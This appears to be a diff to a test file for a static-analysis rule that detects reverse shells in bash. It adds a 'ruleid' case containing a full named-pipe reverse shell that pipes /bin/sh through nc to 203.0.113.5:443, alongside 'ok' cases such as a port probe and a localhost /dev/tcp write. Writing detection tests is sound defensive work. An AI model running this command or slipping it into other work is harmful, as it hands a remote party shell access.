@@ -32,3 +32,5 @@ nc -zv 10.0.0.1 4444
 bash ./scripts/build.sh > build.log 2>&1
 # ok: bash.proc.reverse_shell
 echo hello > /dev/tcp/127.0.0.1/8080
+# ruleid: bash.proc.reverse_shell
+rm -f /tmp/p; mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.5 443 1>/tmp/p
